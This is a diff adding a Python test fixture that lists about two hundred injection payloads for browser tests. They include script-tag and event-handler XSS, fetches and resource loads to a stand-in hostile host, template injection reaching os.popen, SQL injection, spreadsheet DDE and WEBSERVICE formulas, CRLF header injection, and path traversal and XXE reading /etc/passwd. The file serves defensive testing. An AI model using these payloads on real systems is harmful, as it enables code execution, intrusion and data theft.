@@ -1,0 +1,163 @@
+"""Two hundred texts that would do something where they were taken for more than text."""
+
+from __future__ import annotations
+
+from tests.browser.watching import HOSTILE
+
+HIT = "taken_for_code"
+"""What a script calls that was run; the browser of the test defines it."""
+WORKED_OUT = "6597973310"
+"""What a template makes of 73310 times 90001."""
+PLANTED = "planted"
+"""The name of a header, cookie, calendar property or event that a text tries to add."""
+
+_CALL = f"{HIT}()"
+_CALLS = (_CALL, f"window.{HIT}()", f"top['{HIT}']()", "alert(1)", f"fetch('http://{HOSTILE}/x')")
+_MARKUP = (
+    "<script>{call}</script>",
+    "</script><script>{call}</script>",
+    "</textarea><script>{call}</script>",
+    "</title><script>{call}</script>",
+    '"><img src=x onerror={call}>',
+    "'><img src=x onerror={call}>",
+    "<img src=x onerror={call}>",
+    "<svg onload={call}>",
+    "<svg><script>{call}</script></svg>",
+    "<svg><animate onbegin={call} attributeName=x dur=1s>",
+    "<body onload={call}>",
+    "<details open ontoggle={call}>",
+    '" autofocus onfocus={call} x="',
+    "' onmouseover={call} x='",
+    "<iframe srcdoc='<script>parent.{call}</script>'>",
+    "<math><mi xlink:href='javascript:{call}'>x",
+    "--><script>{call}</script><!--",
+)
+_SCRIPTS = tuple(shape.format(call=call) for shape in _MARKUP for call in _CALLS)
+_ELSEWHERE = (
+    f"<img src=http://{HOSTILE}/pixel>",
+    f"<link rel=stylesheet href=http://{HOSTILE}/a.css>",
+    f"<style>@import 'http://{HOSTILE}/a.css'</style>",
+    f"<meta http-equiv=refresh content='0;url=http://{HOSTILE}/'>",
+    f"<base href=http://{HOSTILE}/>",
+    f"<form action=http://{HOSTILE}/><button>Go",
+    f"<object data=http://{HOSTILE}/x>",
+    f"<a href='javascript:{_CALL}' id=x>Press",
+    f"<svg><image href=http://{HOSTILE}/x.svg></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg onload={_CALL}>'></svg>",
+    f"javascript:{_CALL}",
+    "<input name=csrf_token value=planted>",
+    "<plaintext>",
+    "<!--",
+)
+_TEMPLATES = (
+    "{{73310*90001}}",
+    "{%print(73310*90001)%}",
+    "{{config}}",
+    "{{''.__class__.__mro__}}",
+    "{{request.application.__globals__}}",
+    "${73310*90001}",
+    "#{73310*90001}",
+    "<%=73310*90001%>",
+    "{73310*90001}",
+    "%(secret)s",
+    "{0.__class__}",
+    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
+    "{#",
+    "{% raw %}",
+    "$(73310*90001)",
+    "`73310*90001`",
+)
+_SQL = (
+    "' OR '1'='1",
+    "'; DROP TABLE cases;--",
+    "1; SELECT pg_sleep(9)",
+    "' UNION SELECT 1,2,3--",
+    '" OR ""="',
+    "\\'; --",
+    "') OR 1=1--",
+    "%' OR 1=1 --",
+    "_%_",
+    "NULL",
+    "x'41'",
+    "1e309",
+)
+_FORMULAS = (
+    "=73310*90001",
+    "+73310*90001",
+    "-73310*90001",
+    "@SUM(73310*90001)",
+    f'=HYPERLINK("http://{HOSTILE}/","x")',
+    "=cmd|' /C calc'!A0",
+    f'=WEBSERVICE("http://{HOSTILE}/")',
+    f'=IMPORTXML("http://{HOSTILE}/","//a")',
+    "\t=73310*90001",
+    " =73310*90001",
+    "\uff1d73310*90001",
+    "\uff0b73310*90001",
+    "\uff2073310*90001",
+    '",=73310*90001',
+    '"\n=73310*90001',
+    ";=73310*90001",
+    "%0A=73310*90001",
+    "-2+3+cmd|' /C calc'!A0",
+    f"http://{HOSTILE}/",
+    f"mailto:x@{HOSTILE}",
+    "internal:'Sheet1'!A1",
+    "{=73310*90001}",
+)
+_LINES = (
+    f"x\r\nSet-Cookie: {PLANTED}=1",
+    f"x\nlevel=error event={PLANTED}",
+    f"x\r\n\r\n<script>{_CALL}</script>",
+    f"x\nBcc: {PLANTED}@{HOSTILE}",
+    f"x\r\nEND:VEVENT\r\nX-{PLANTED.upper()}:1",
+    f"x%0d%0aX-{PLANTED}: 1",
+    f"x\u2028X-{PLANTED}: 1",
+    f"x\u0085event={PLANTED}",
+    f'x" event="{PLANTED}',
+    "\x1b]0;x\x07",
+    "\x1b[31mred",
+    "x\u2029y",
+)
+_WRITING = (
+    "\u202egnp.exe",
+    "\u2067abc\u2066",
+    "\u202dabc\u202c",
+    "a\u0300\u0301\u0302\u0303" * 8,
+    "\ufeff<script>",
+    "＜script＞" + _CALL,
+    "\u200e\u200fabc",
+    "شدة الألم ٣",
+    "\U0001f469\u200d\u2695\ufe0f",
+    "\u0130\u0131\u017f",
+    "ﷺ" * 10,
+    "%3Cscript%3E" + _CALL,
+    "&lt;script&gt;" + _CALL,
+    "&#60;script&#62;" + _CALL,
+    "\\u003cscript\\u003e" + _CALL,
+    "../../../etc/passwd",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
+    "]]><script>" + _CALL + "</script>",
+    '{"resourceType":"Patient"}',
+    "\\",
+    "\\\\\"'",
+    '"',
+    "'",
+    ",",
+    ";",
+    "<",
+    "&",
+    "]]>",
+    "%s%s%n",
+    "\0",
+    "true",
+    "[object Object]",
+    "undefined",
+    "-1",
+    "1/0",
+    "../x\\y",
+    "?x=1&y=2#z",
+    "<xmp>",
+    "<noscript><p title='</noscript><img src=x onerror=" + _CALL + ">'>",
+)
+PAYLOADS = (*_SCRIPTS, *_ELSEWHERE, *_TEMPLATES, *_SQL, *_FORMULAS, *_LINES, *_WRITING)
